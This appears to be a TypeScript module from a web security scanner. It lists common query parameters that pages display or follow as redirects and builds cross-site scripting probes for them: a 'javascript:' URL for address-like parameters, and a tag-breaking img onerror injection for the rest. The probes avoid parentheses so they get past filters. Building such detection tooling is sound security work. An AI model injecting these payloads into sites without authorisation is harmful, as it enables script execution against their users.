/** Parameters whose values pages show. */
const SHOWN =
  'q query prompt ask message msg text input search s title name username email user error error_description reason notice info status model draft content topic ref source id'.split(
    ' ',
  );
/** Parameters whose values pages follow. */
const FOLLOWED =
  'next redirect redirect_to redirectTo return returnTo return_to returnUrl continue url target dest destination goto callback back from'.split(
    ' ',
  );
const LIKE_AN_ADDRESS = /ur[il]|redir|return|next|target|dest|continue|back|goto|callback|from$/i;

/** The names of parameters that are tried wherever nobody knows which ones a page reads. */
export const COMMON_PARAMETERS: readonly string[] = [...SHOWN, ...FOLLOWED];

/**
 * What one part of an address carries: something that runs where it is put into a page as HTML, or is followed as an
 * address. Neither kind holds a parenthesis: filters look for those.
 *
 * @param call the name of a function in the page that the oracle listens on
 * @param marker `[a-z0-9]`; what the call says
 * @param name of the parameter; undefined: the part is shown, if anything
 */
export function addressPayload(call: string, marker: string, name?: string): string {
  const run = `${call}\`${marker}\``;
  if (name !== undefined && LIKE_AN_ADDRESS.test(name)) return `javascript:${run}`;
  // Ends the attribute, the title or the script in which a server may write it.
  return `${marker}'"></title></script><img src=x onerror=${run}>`;
}
